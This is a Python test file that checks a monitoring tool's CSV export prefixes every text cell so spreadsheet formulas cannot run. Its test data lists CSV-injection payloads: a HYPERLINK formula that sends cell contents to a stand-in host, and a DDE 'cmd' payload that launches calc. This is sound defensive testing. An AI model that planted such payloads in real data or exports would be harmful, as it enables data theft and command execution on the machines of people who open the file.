"""The Request explorer's CSV export against texts a client chose to be spreadsheet formulas.

A user id is whatever the client sends; ``=HYPERLINK(...)`` in it ran as a formula in the
analyst's spreadsheet (only the error and categories columns were neutralised). Every text
cell now starts with a character no spreadsheet reads as a formula.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from core import monitoring
from core.monitoring import explorer
from core.text import FORMULA_STARTS, spreadsheet_safe
from tests.fixtures.predictions import T0, rec

ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_text_cell_of_the_export_is_neutralised(backend, attack) -> None:
    r = replace(
        rec(T0, model="m", error=attack),
        user_id=attack,
        places=[attack],
        categories=[attack],
        version=attack[:32],
    )
    monitoring.store_batch([r])
    rows = list(csv.reader(io.StringIO("".join(explorer.export_csv(explorer.RequestFilter())))))
    assert len(rows) == 2
    cells = dict(zip(rows[0], rows[1], strict=True))
    for column in ("user_id", "error", "places", "categories", "version"):
        assert cells[column].startswith("'"), column
    assert not any(cell.startswith(FORMULA_STARTS) for cell in rows[1])
    assert cells["user_id"] == "'" + attack  # the text itself is kept, only made inert


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert spreadsheet_safe(-3.7) == -3.7 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("u-42") == "u-42"
